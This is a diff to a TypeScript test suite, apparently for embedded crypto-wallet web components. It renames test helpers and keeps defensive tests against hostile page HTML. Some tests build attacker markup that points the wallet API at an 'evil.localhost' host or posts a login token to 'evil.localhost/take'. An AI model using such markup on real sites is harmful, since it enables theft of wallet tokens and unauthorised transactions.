@@ -2,16 +2,16 @@ import { expect } from 'chai'
 import { guestWithEther, localChain } from '../test/guest.harness.js'
 import {
   bundle,
-  clean,
+  cleanUp,
   driver,
-  freshPage,
+  openFrame,
   pressUntil,
-  put,
+  insert,
   settled,
-  shown,
+  waitForElement,
   sleep,
   until,
-  within,
+  findInside,
   world,
   type Tag,
 } from '../test/page.harness.js'
@@ -53,11 +53,11 @@ describe('hostile HTML that somebody has written into the page', () => {
   /** Checks that the complete review is shown, and that nothing is sent without an approval. */
   const isOnlyShown = async (tag: Tag) => {
     await until(() => tag.screen === 'confirm-ethereum')
-    await until(() => !within(tag, '.skeleton'))
+    await until(() => !findInside(tag, '.skeleton'))
     expect(tag.shadowRoot.textContent).to.contain('1 ETH')
     expect(await sent()).to.equal(already)
     tag.close()
-    await until(() => !tag.open && !within(tag, 'dialog'))
+    await until(() => !tag.open && !findInside(tag, 'dialog'))
   }
 
   before(async () => {
@@ -77,7 +77,7 @@ describe('hostile HTML that somebody has written into the page', () => {
   after(async () => {
     console.warn = warn
     await configure({ embeddedWallets: { showWalletUIs: true } })
-    await clean()
+    await cleanUp()
     await app.session.logout()
   })
 
@@ -111,7 +111,7 @@ describe('hostile HTML that somebody has written into the page', () => {
       `<wallet-button for="hidden" label="Win a prize"></wallet-button>${ATTACK.replace(' open', ' id="hidden"')}`,
     )
     const tag = page.querySelector('wallet-confirm-tx') as Tag
-    const button = await shown<HTMLButtonElement>(page.querySelector('wallet-button') as Tag, 'button')
+    const button = await waitForElement<HTMLButtonElement>(page.querySelector('wallet-button') as Tag, 'button')
     await pressUntil(
       () => tag.open,
       () => button,
@@ -137,7 +137,7 @@ describe('hostile HTML that somebody has written into the page', () => {
 
   it('only a property set by a script removes the screens, an attribute never does', async () => {
     await configure({ embeddedWallets: { showWalletUIs: true } })
-    const tag = put<Tag & { headless: boolean }>(`<wallet-confirm-tx to="${TO}" value="3"></wallet-confirm-tx>`)
+    const tag = insert<Tag & { headless: boolean }>(`<wallet-confirm-tx to="${TO}" value="3"></wallet-confirm-tx>`)
     tag.headless = true
     const { hash } = (await tag.show()) as { hash: string }
     expect(hash).to.match(/^0x[0-9a-f]{64}$/)
@@ -156,7 +156,7 @@ describe('hostile HTML that somebody has written into the page', () => {
     const { apiUrl } = await world()
     const { appId } = app.config as { appId: string }
     const theirs = apiUrl.replace('wallet.localhost', 'evil.localhost')
-    const page = await freshPage()
+    const page = await openFrame()
     page.document.body.innerHTML = `<wallet-app app-id="${appId}" api-url="${theirs}"></wallet-app>`
     const [tag] = page.document.body.children as unknown as [Tag]
     await tag.ready
@@ -183,7 +183,7 @@ describe('hostile HTML that somebody has written into the page', () => {
     const { apiUrl } = await world()
     const { appId } = app.config as { appId: string }
     const theirs = `${apiUrl.replace('wallet.localhost', 'evil.localhost')}/take`
-    const page = await freshPage()
+    const page = await openFrame()
     // A guest can still log in, unless markup allows no other method: then the login is complete at once.
     page.document.body.innerHTML = `<wallet-app app-id="${appId}" api-url="${apiUrl}"></wallet-app>
       <form action="${theirs}" method="post"><wallet-login-modal open login-methods="guest" name="token" submit-on-complete></wallet-login-modal></form>`
@@ -212,7 +212,7 @@ describe('hostile HTML that somebody has written into the page', () => {
     const { apiUrl } = await world()
     const { appId } = app.config as { appId: string }
     const theirs = apiUrl.replace('wallet.localhost', 'evil.localhost')
-    const page = await freshPage()
+    const page = await openFrame()
     page.document.body.innerHTML = `<wallet-app app-id="${appId}" api-url="${theirs}"></wallet-app>`
     const [tag] = page.document.body.children as unknown as [Tag]
     await tag.ready
